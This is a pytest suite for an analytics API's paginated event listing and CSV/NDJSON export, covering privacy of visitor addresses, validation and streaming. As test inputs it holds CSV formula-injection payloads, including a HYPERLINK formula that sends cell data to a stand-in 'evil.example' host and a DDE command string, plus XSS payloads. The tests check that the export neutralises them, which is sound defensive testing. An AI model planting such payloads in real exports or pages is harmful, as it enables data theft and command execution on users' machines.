"""GET /api/v1/sites/{id}/events (cursor pages) and /export (a streamed CSV or NDJSON file).

Pages follow (date, id), so events sharing a timestamp, and events arriving between pages,
are neither skipped nor repeated; the visitor's address never leaves the server; the CSV is
safe to open in a spreadsheet, and the download is read a chunk at a time.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import random
from collections.abc import Callable
from datetime import datetime, timedelta
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from flask_tracking.ingest import drain
from flask_tracking.reports import export as reports_export
from tests.api.helpers import (
    FIREFOX,
    add_visits,
    error_of,
    freeze,
    update_site,
    utc,
)

NOW = utc(2026, 3, 10, 12)
MARCH = {"period": "custom", "from": "2026-03-01", "to": "2026-03-10"}
# Every field of an exported event, in the CSV's column order.
FIELDS = [
    "id",
    "date",
    "name",
    "url",
    "pathname",
    "hostname",
    "referrer",
    "referrer_source",
    "utm_source",
    "utm_medium",
    "utm_campaign",
    "utm_term",
    "utm_content",
    "country_code",
    "region",
    "city",
    "browser",
    "browser_version",
    "os",
    "os_version",
    "device",
    "screen_size",
    "screen_width",
    "visitor_id",
    "session_id",
    "props",
]
# What is stored but never exported.
PRIVATE = {"ip_address", "latitude", "longitude", "postal_code", "country_name", "event_id"}


@pytest.fixture(autouse=True)
def _frozen(monkeypatch: pytest.MonkeyPatch) -> None:
    """Presets resolve at NOW."""
    freeze(monkeypatch, NOW)


def events_page(
    client: FlaskClient, site_id: int, headers: dict[str, str], **args: Any
) -> TestResponse:
    return client.get(f"/api/v1/sites/{site_id}/events", query_string=args, headers=headers)


def page_of(client: FlaskClient, site_id: int, headers: dict[str, str], **args: Any) -> Any:
    response = events_page(client, site_id, headers, **args)
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "application/json"
    return response.get_json()


def every_page(
    client: FlaskClient, site_id: int, headers: dict[str, str], **args: Any
) -> list[list[dict[str, Any]]]:
    """Follow next_cursor from the first page to the last; return the pages."""
    pages = []
    cursor = None
    while True:
        body = page_of(client, site_id, headers, **args, **({"cursor": cursor} if cursor else {}))
        pages.append(body["data"])
        cursor = body["next_cursor"]
        if cursor is None:
            return pages
        assert len(pages) < 100, "the cursor does not advance"


def download(
    client: FlaskClient, site_id: int, headers: dict[str, str], **args: Any
) -> TestResponse:
    return client.get(f"/api/v1/sites/{site_id}/export", query_string=args, headers=headers)


def around_now() -> dict[str, str]:
    """Return the query arguments of a custom period from yesterday to tomorrow (real days)."""
    today = datetime.now(NOW.tzinfo).date()
    return {
        "period": "custom",
        "from": (today - timedelta(days=1)).isoformat(),
        "to": (today + timedelta(days=1)).isoformat(),
    }


def z(moment: datetime) -> str:
    """Return a UTC datetime as the API writes it."""
    return moment.isoformat().replace("+00:00", "Z")


@pytest.fixture
def twenty_five(app: Flask, site: int) -> list[tuple[datetime, int]]:
    """25 events in March, inserted out of order, with two groups sharing a timestamp:
    six at 10:07 (positions 8 to 13, across the first page's end) and four at 10:17.
    Return their (date, id) in export order."""
    base = utc(2026, 3, 5, 10)
    dates = [base + timedelta(minutes=n) for n in range(25)]
    for n in range(8, 14):
        dates[n] = base + timedelta(minutes=7, seconds=30)
    for n in range(18, 22):
        dates[n] = base + timedelta(minutes=17, seconds=30)
    shuffled = dates[:]
    random.Random(7).shuffle(shuffled)
    rows = [
        {"date": when, "url": f"https://a.example/p{n}", "pathname": f"/p{n}"}
        for n, when in enumerate(shuffled)
    ]
    ids = add_visits(app, site, rows)
    return sorted(zip(shuffled, ids, strict=True))


# -- pages -----------------------------------------------------------------------------------


def test_pages_return_every_event_once_oldest_first(
    client: FlaskClient, reader: dict[str, str], site: int, twenty_five: list[Any]
) -> None:
    pages = every_page(client, site, reader, limit=10, **MARCH)
    assert [len(page) for page in pages] == [10, 10, 5]
    events = [event for page in pages for event in page]
    assert [(event["date"], event["id"]) for event in events] == [
        (z(when), ident) for when, ident in twenty_five
    ]
    assert len({event["id"] for event in events}) == 25
    # The first page ends inside the group sharing 10:07:30: ids break the tie.
    tied = [event["id"] for event in events if event["date"] == "2026-03-05T10:07:30Z"]
    assert len(tied) == 6 and tied == sorted(tied)
    assert pages[0][-1]["date"] == pages[1][0]["date"] == "2026-03-05T10:07:30Z"


def test_one_event_a_page_walks_through_ties(
    client: FlaskClient, reader: dict[str, str], site: int, twenty_five: list[Any]
) -> None:
    pages = every_page(client, site, reader, limit=1, **MARCH)
    assert [len(page) for page in pages] == [1] * 25
    assert [page[0]["id"] for page in pages] == [ident for _when, ident in twenty_five]


def test_a_limit_larger_than_the_period_gives_one_page(
    client: FlaskClient, reader: dict[str, str], site: int, twenty_five: list[Any]
) -> None:
    body = page_of(client, site, reader, limit=25, **MARCH)
    assert len(body["data"]) == 25
    assert body["next_cursor"] is None  # exactly the limit: no empty page to fetch
    body = page_of(client, site, reader, **MARCH)  # default limit: 100
    assert (len(body["data"]), body["next_cursor"]) == (25, None)


def test_events_arriving_between_pages_are_neither_skipped_nor_repeated(
    app: Flask,
    client: FlaskClient,
    reader: dict[str, str],
    site: int,
    twenty_five: list[Any],
) -> None:
    first = page_of(client, site, reader, limit=10, **MARCH)
    last_date = first["data"][-1]["date"]
    assert last_date == "2026-03-05T10:07:30Z"
    # New events: one at the very timestamp the first page ended on (a larger id), and two
    # later ones; then the rest of the pages.
    same, later = add_visits(
        app,
        site,
        [
            {"date": utc(2026, 3, 5, 10, 7, 30), "pathname": "/same"},
            {"date": utc(2026, 3, 9, 8), "pathname": "/later"},
        ],
    )
    (latest,) = add_visits(app, site, [{"date": utc(2026, 3, 10, 11), "pathname": "/latest"}])
    rest: list[dict[str, Any]] = []
    cursor = first["next_cursor"]
    while cursor:
        body = page_of(client, site, reader, limit=10, cursor=cursor, **MARCH)
        rest.extend(body["data"])
        cursor = body["next_cursor"]
    ids = [event["id"] for event in first["data"] + rest]
    assert len(ids) == len(set(ids)) == 28
    arrived = [(utc(2026, 3, 5, 10, 7, 30), same), (utc(2026, 3, 9, 8), later)]
    expected = [*sorted([*twenty_five, *arrived]), (utc(2026, 3, 10, 11), latest)]
    assert ids == [ident for _when, ident in expected]


def test_only_the_periods_events_are_returned(
    app: Flask, client: FlaskClient, reader: dict[str, str], site: int
) -> None:
    inside_first, inside_last, before, _after = add_visits(
        app,
        site,
        [
            {"date": utc(2026, 3, 1, 0, 0, 0)},
            {"date": datetime(2026, 3, 10, 23, 59, 59, 999000, tzinfo=NOW.tzinfo)},
            {"date": datetime(2026, 2, 28, 23, 59, 59, 999000, tzinfo=NOW.tzinfo)},
            {"date": utc(2026, 3, 11, 0, 0, 0)},
        ],
    )
    body = page_of(client, site, reader, **MARCH)
    assert [event["id"] for event in body["data"]] == [inside_first, inside_last]
    assert body["data"][1]["date"] == "2026-03-10T23:59:59.999000Z"
    # The default period is the last 30 days: 2026-02-09 to today (the 10th) included.
    default = page_of(client, site, reader)
    assert [event["id"] for event in default["data"]] == [before, inside_first, inside_last]
    today = page_of(client, site, reader, period="today")
    assert [event["id"] for event in today["data"]] == [inside_last]
    # In Tokyo, 2026-03-01 is [02-28 15:00Z, 03-01 15:00Z).
    update_site(app, site, timezone="Asia/Tokyo")
    tokyo = page_of(
        client, site, reader, period="custom", **{"from": "2026-03-01", "to": "2026-03-01"}
    )
    assert [event["id"] for event in tokyo["data"]] == [before, inside_first]


def test_other_sites_events_are_never_listed(
    app: Flask,
    client: FlaskClient,
    reader: dict[str, str],
    owner: Any,
    site: int,
    make_site: Any,
) -> None:
    other = make_site(owner, "https://other.example")
    (mine,) = add_visits(app, site, [{"date": utc(2026, 3, 5, 10)}])
    add_visits(app, other, [{"date": utc(2026, 3, 5, 10)}, {"date": utc(2026, 3, 5, 11)}])
    body = page_of(client, site, reader, **MARCH)
    assert [event["id"] for event in body["data"]] == [mine]


@pytest.fixture
def private_event(app: Flask, site: int) -> int:
    """An event stored with everything, the visitor's address and coordinates included."""
    (ident,) = add_visits(
        app,
        site,
        [
            {
                "date": utc(2026, 3, 5, 10, 0, 0),
                "event": "Signup",
                "url": "https://a.example/pricing?utm_source=news",
                "pathname": "/pricing",
                "referrer": "https://www.google.com/",
                "referrer_source": "Google",
                "utm_source": "news",
                "country_code": "GB",
                "country_name": "United Kingdom",
                "region": "England",
                "city": "Willesden",
                "postal_code": "NW10",
                "latitude": 51.5333,
                "longitude": -0.2333,
                "ip_address": "81.2.69.142",
                "browser": "Firefox",
                "browser_version": "133.0",
                "os": "Windows",
                "os_version": "10",
                "device": "desktop",
                "screen_size": "laptop",
                "screen_width": 1440,
                "props": {"plan": "pro", "seats": 3},
                "event_id": "0" * 32,
            }
        ],
    )
    return ident


def test_an_event_has_every_field_but_the_visitors_address(
    client: FlaskClient, reader: dict[str, str], site: int, private_event: int
) -> None:
    response = events_page(client, site, reader, **MARCH)
    text = response.get_data(as_text=True)
    [event] = response.get_json()["data"]
    assert list(event) == FIELDS
    assert not PRIVATE & set(event)
    assert "81.2.69" not in text and "ip_address" not in text and "NW10" not in text
    # The visitor-day and session numbers, as strings: a JavaScript number may round 64 bits.
    visitor, session = event["visitor_id"], event["session_id"]
    assert visitor.isdigit() and session.isdigit()
    assert event == {
        "id": private_event,
        "date": "2026-03-05T10:00:00Z",
        "name": "Signup",
        "url": "https://a.example/pricing?utm_source=news",
        "pathname": "/pricing",
        "hostname": "a.example",
        "referrer": "https://www.google.com/",
        "referrer_source": "Google",
        "utm_source": "news",
        "utm_medium": None,
        "utm_campaign": None,
        "utm_term": None,
        "utm_content": None,
        "country_code": "GB",
        "region": "England",
        "city": "Willesden",
        "browser": "Firefox",
        "browser_version": "133.0",
        "os": "Windows",
        "os_version": "10",
        "device": "desktop",
        "screen_size": "laptop",
        "screen_width": 1440,
        "visitor_id": visitor,
        "session_id": session,
        "props": {"plan": "pro", "seats": 3},
    }


def test_neither_download_holds_the_visitors_address(
    client: FlaskClient, reader: dict[str, str], site: int, private_event: int
) -> None:
    for file_format in ("csv", "ndjson"):
        text = download(client, site, reader, format=file_format, **MARCH).get_data(as_text=True)
        assert "81.2.69" not in text
        assert "ip_address" not in text
        assert "51.5333" not in text and "NW10" not in text and "United Kingdom" not in text
    rows = list(
        csv.DictReader(
            io.StringIO(
                download(client, site, reader, format="csv", **MARCH).get_data(as_text=True)
            )
        )
    )
    assert rows[0]["visitor_id"].isdigit()  # a number, not "'…"
    assert rows[0]["session_id"].isdigit()


def test_events_stored_by_the_pipeline_export_with_z_dates_and_string_ids(
    app: Flask, client: FlaskClient, site: int, writer: dict[str, str], reader: dict[str, str]
) -> None:
    for path in ("/", "/pricing"):
        response = client.post(
            f"/api/v1/sites/{site}/events",
            json={"url": f"https://a.example{path}", "ip": "81.2.69.142", "user_agent": FIREFOX},
            headers=writer,
        )
        assert response.status_code == 202
    assert drain(app) == 2
    # Stored now (the real now), so ask for the days around it.
    body = page_of(client, site, reader, **around_now())
    first, second = body["data"]
    for event in (first, second):
        assert event["date"].endswith("Z")
        datetime.fromisoformat(event["date"])
        assert isinstance(event["visitor_id"], str) and int(event["visitor_id"]) != 0
        assert isinstance(event["session_id"], str)
        assert isinstance(event["id"], int)
    assert first["visitor_id"] == second["visitor_id"]
    assert (first["pathname"], second["pathname"]) == ("/", "/pricing")
    assert (first["browser"], first["os"]) == ("Firefox", "Windows")


# -- bad input -------------------------------------------------------------------------------


def cursor_of(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


@pytest.mark.parametrize(
    ("cursor", "field"),
    [
        pytest.param("garbage", "cursor", id="garbage"),
        pytest.param("!!!!", "cursor", id="not-base64"),
        pytest.param("é", "cursor", id="not-ascii"),
        pytest.param(cursor_of("hello"), "cursor", id="no-separator"),
        pytest.param(cursor_of("yesterday|12"), "cursor", id="not-a-date"),
        pytest.param(cursor_of("2026-03-05T10:00:00|12"), "cursor", id="naive-date"),
        pytest.param(cursor_of("2026-03-05T10:00:00+00:00|0"), "cursor", id="id-zero"),
        pytest.param(cursor_of("2026-03-05T10:00:00+00:00|-3"), "cursor", id="id-negative"),
        pytest.param(cursor_of("2026-03-05T10:00:00+00:00|x"), "cursor", id="id-word"),
        pytest.param(cursor_of("2026-03-05T10:00:00+00:00|1|2"), "cursor", id="three-parts"),
        pytest.param(cursor_of(f"2026-03-05T10:00:00+00:00|{2**63}"), "cursor", id="id-huge"),
        pytest.param("A" * 201, "cursor", id="too-long"),
        # Well-formed dates whose offset takes them outside the dates Python can hold.
        pytest.param(cursor_of("9999-12-31T23:00:00-14:00|5"), "cursor", id="after-year-9999"),
        pytest.param(cursor_of("0001-01-01T00:00:00+14:00|5"), "cursor", id="before-year-1"),
    ],
)
def test_a_cursor_the_api_did_not_make_is_a_400(
    client: FlaskClient,
    reader: dict[str, str],
    site: int,
    twenty_five: list[Any],
    cursor: str,
    field: str,
) -> None:
    error = error_of(events_page(client, site, reader, cursor=cursor, **MARCH), 400)
    assert error["code"] == "invalid_request"
    assert list(error["details"]) == [field]


@pytest.mark.parametrize(
    ("args", "field"),
    [
        ({"limit": 0}, "limit"),
        ({"limit": 1001}, "limit"),
        ({"limit": "1.0"}, "limit"),
        ({"period": "decade"}, "period"),
        ({"period": "custom", "from": "2026-03-10", "to": "2026-03-01"}, "query"),
        ({"period": "custom"}, "query"),
        ({"period": "custom", "from": "2026-13-01", "to": "2026-03-01"}, "from"),
        ({"page": 2}, "page"),
        ({"format": "csv"}, "format"),
    ],
    ids=str,
)
def test_bad_page_parameters_are_a_400(
    client: FlaskClient, reader: dict[str, str], site: int, args: dict[str, Any], field: str
) -> None:
    error = error_of(events_page(client, site, reader, **args), 400)
    assert field in error["details"], error


@pytest.mark.parametrize(
    ("args", "field"),
    [
        ({"format": "xlsx"}, "format"),
        ({"format": "CSV"}, "format"),
        ({"limit": 10}, "limit"),
        ({"cursor": "x"}, "cursor"),
        ({"period": "custom", "from": "2026-03-01"}, "query"),
    ],
    ids=str,
)
def test_bad_download_parameters_are_a_400_not_a_file(
    client: FlaskClient, reader: dict[str, str], site: int, args: dict[str, Any], field: str
) -> None:
    response = download(client, site, reader, **args)
    error = error_of(response, 400)
    assert field in error["details"], error
    assert "Content-Disposition" not in response.headers


def test_limits_at_the_edges_are_accepted(
    client: FlaskClient, reader: dict[str, str], site: int, twenty_five: list[Any]
) -> None:
    assert len(page_of(client, site, reader, limit=1, **MARCH)["data"]) == 1
    assert len(page_of(client, site, reader, limit=1000, **MARCH)["data"]) == 25


# -- downloads -------------------------------------------------------------------------------


def all_events(client: FlaskClient, site_id: int, headers: dict[str, str]) -> list[Any]:
    return [
        event for page in every_page(client, site_id, headers, limit=7, **MARCH) for event in page
    ]


def test_ndjson_lines_are_the_paged_events(
    client: FlaskClient, reader: dict[str, str], site: int, twenty_five: list[Any]
) -> None:
    response = download(client, site, reader, format="ndjson", **MARCH)
    assert response.status_code == 200
    assert response.mimetype == "application/x-ndjson"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    assert f'filename="site-{site}-events-' in disposition and disposition.endswith('.ndjson"')
    text = response.get_data(as_text=True)
    assert text.endswith("\n")
    lines = text.splitlines()
    assert len(lines) == 25
    assert [json.loads(line) for line in lines] == all_events(client, site, reader)
    # NDJSON is the default format.
    assert download(client, site, reader, **MARCH).get_data(as_text=True) == text


def test_csv_has_a_header_and_the_paged_events(
    client: FlaskClient, reader: dict[str, str], site: int, twenty_five: list[Any]
) -> None:
    response = download(client, site, reader, format="csv", **MARCH)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.mimetype_params.get("charset") == "utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment; ")
    assert response.headers["Content-Disposition"].endswith('.csv"')
    text = response.get_data(as_text=True)
    assert text.startswith(",".join(FIELDS) + "\r\n")
    rows = list(csv.DictReader(io.StringIO(text)))
    events = all_events(client, site, reader)
    assert len(rows) == 25
    for row, event in zip(rows, events, strict=True):
        assert list(row) == FIELDS
        assert int(row["id"]) == event["id"]
        assert row["date"] == event["date"]
        assert row["url"] == event["url"]
        assert row["pathname"] == event["pathname"]
        assert json.loads(row["props"]) == event["props"]
        assert row["referrer"] == ""  # None is an empty cell


def test_an_empty_period_is_a_header_or_nothing(
    client: FlaskClient, reader: dict[str, str], site: int
) -> None:
    assert download(client, site, reader, format="csv", **MARCH).get_data(as_text=True) == (
        ",".join(FIELDS) + "\r\n"
    )
    assert download(client, site, reader, format="ndjson", **MARCH).get_data() == b""
    assert page_of(client, site, reader, **MARCH) == {"data": [], "next_cursor": None}


STRANGER = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "url": "https://a.example/+1?utm_source=%2B1&utm_medium=-2&utm_campaign=@x&utm_term=%3D1%2B2",
    "referrer": "=cmd|' /C calc'!A0",
    "props": {"cell": "=1+1", "at": "@SUM(A1)", "minus": "-2"},
}
SCRIPT = "<script>alert(document.cookie)</script>"


@pytest.fixture
def strangers(app: Flask, client: FlaskClient, site: int, writer: dict[str, str]) -> dict[str, str]:
    """Events whose text was typed by strangers, through the real pipeline, and as rows;
    return the query arguments of a period holding them."""
    # Two visitors: an event's attribution (source, UTM tags) is its visit's, its first event's.
    for body, address in (
        (STRANGER, "81.2.69.142"),
        (
            {
                "name": SCRIPT,
                "url": "https://a.example/<b>?utm_source=<img src=x onerror=alert(1)>",
                "referrer": "javascript:alert('x')",
                "props": {"html": SCRIPT},
            },
            "89.160.20.112",
        ),
    ):
        response = client.post(
            f"/api/v1/sites/{site}/events",
            json={**body, "ip": address, "user_agent": FIREFOX},
            headers=writer,
        )
        assert response.status_code == 202, response.get_data(as_text=True)
    assert drain(app) == 2
    # Columns the pipeline fills from lookups, written here as a stranger's values.
    add_visits(
        app,
        site,
        [
            {
                "date": datetime.now(NOW.tzinfo),
                "pathname": '=HYPERLINK("https://evil.example")',
                "hostname": "@evil",
                "city": "+44",
                "region": "-1",
                "browser": "\tTab",
                "os": "\rReturn",
                "referrer_source": "=src",
                "utm_content": "@content",
            }
        ],
    )
    return around_now()


def test_csv_cells_a_spreadsheet_would_run_get_an_apostrophe(
    client: FlaskClient, reader: dict[str, str], site: int, strangers: Any
) -> None:
    text = download(client, site, reader, format="csv", **strangers).get_data(as_text=True)
    first, second, third = csv.DictReader(io.StringIO(text))
    assert first["name"] == "'" + STRANGER["name"]
    assert first["referrer"] == "'" + STRANGER["referrer"]
    assert (first["utm_source"], first["utm_medium"], first["utm_campaign"]) == (
        "'+1",
        "'-2",
        "'@x",
    )
    assert first["utm_term"] == "'=1+2"
    assert first["pathname"] == "/+1"  # a path starts with "/": nothing to neutralise
    # props is one JSON object (starting "{"), holding the values as they were sent.
    assert json.loads(first["props"]) == STRANGER["props"]
    assert (third["pathname"], third["hostname"]) == (
        '\'=HYPERLINK("https://evil.example")',
        "'@evil",
    )
    assert (third["city"], third["region"]) == ("'+44", "'-1")
    assert (third["browser"], third["os"]) == ("'\tTab", "'\rReturn")
    assert (third["referrer_source"], third["utm_content"]) == ("'=src", "'@content")
    # No cell of any row starts with a formula character.
    for row in (first, second, third):
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
            assert not cell.startswith("-") or name in ("session_id", "visitor_id"), (name, cell)
    # Markup is text in a CSV, unchanged.
    assert second["name"] == SCRIPT
    assert json.loads(second["props"]) == {"html": SCRIPT}


def test_json_and_ndjson_return_stored_text_verbatim(
    client: FlaskClient, reader: dict[str, str], site: int, strangers: Any
) -> None:
    response = events_page(client, site, reader, **strangers)
    assert response.mimetype == "application/json"
    assert "html" not in response.content_type
    first, second, third = response.get_json()["data"]
    assert first["name"] == STRANGER["name"]  # JSON has no formulas: no apostrophe
    assert first["referrer"] == STRANGER["referrer"]
    assert (first["utm_source"], first["utm_medium"]) == ("+1", "-2")
    assert second["name"] == SCRIPT
    assert second["props"] == {"html": SCRIPT}
    assert second["utm_source"] == "<img src=x onerror=alert(1)>"
    assert second["referrer"] == "javascript:alert('x')"
    assert third["city"] == "+44"
    ndjson = download(client, site, reader, format="ndjson", **strangers)
    assert ndjson.mimetype == "application/x-ndjson"
    lines = [json.loads(line) for line in ndjson.get_data(as_text=True).splitlines()]
    assert lines == [first, second, third]


# -- streaming -------------------------------------------------------------------------------


@pytest.fixture
def counted_pages(monkeypatch: pytest.MonkeyPatch) -> Callable[[int], list[int]]:
    """Read `chunk` events at a time when streaming; return the sizes of the pages read."""
    calls: list[int] = []
    original = reports_export.page

    def page(*args: Any, **kwargs: Any) -> list[Any]:
        rows = original(*args, **kwargs)
        calls.append(len(rows))
        return rows

    monkeypatch.setattr(reports_export, "page", page)

    def chunked(chunk: int) -> list[int]:
        # stream()'s chunk is a default argument, bound when the module was loaded: patching
        # STREAM_CHUNK alone would change nothing.
        monkeypatch.setattr(reports_export.stream, "__defaults__", (chunk,))
        return calls

    return chunked


def test_the_ndjson_download_reads_a_page_at_a_time(
    client: FlaskClient,
    reader: dict[str, str],
    site: int,
    twenty_five: list[Any],
    counted_pages: Callable[[int], list[int]],
) -> None:
    calls = counted_pages(4)
    response = client.get(
        f"/api/v1/sites/{site}/export",
        query_string={"format": "ndjson", **MARCH},
        headers=reader,
        buffered=False,
    )
    try:
        assert response.status_code == 200
        lines = iter(response.response)
        first = json.loads(next(lines))
        assert first["id"] == twenty_five[0][1]
        assert calls == [4]  # one page read, 21 events still in the database
        for _ in range(4):
            next(lines)
        assert calls == [4, 4]  # the fifth event needed the second page
        rest = list(lines)
    finally:
        response.close()
    assert len(rest) == 20
    assert calls == [4, 4, 4, 4, 4, 4, 1]
    assert json.loads(rest[-1])["id"] == twenty_five[-1][1]


def test_the_csv_download_streams_too(
    app: Flask,
    client: FlaskClient,
    reader: dict[str, str],
    site: int,
    counted_pages: Callable[[int], list[int]],
) -> None:
    base = utc(2026, 3, 5)
    add_visits(
        app,
        site,
        [
            {
                "date": base + timedelta(seconds=n),
                "url": f"https://a.example/{n}",
                "pathname": f"/{n}",
            }
            for n in range(1001)
        ],
    )
    calls = counted_pages(250)
    response = client.get(
        f"/api/v1/sites/{site}/export",
        query_string={"format": "csv", **MARCH},
        headers=reader,
        buffered=False,
    )
    try:
        chunks = iter(response.response)
        head = next(chunks).decode()
        # The first 500 rows are sent after two pages, before the rest is read.
        assert head.count("\r\n") == 501
        assert calls == [250, 250]
        tail = b"".join(chunks).decode()
    finally:
        response.close()
    assert calls == [250, 250, 250, 250, 1]
    rows = list(csv.DictReader(io.StringIO(head + tail)))
    assert [row["pathname"] for row in rows] == [f"/{n}" for n in range(1001)]
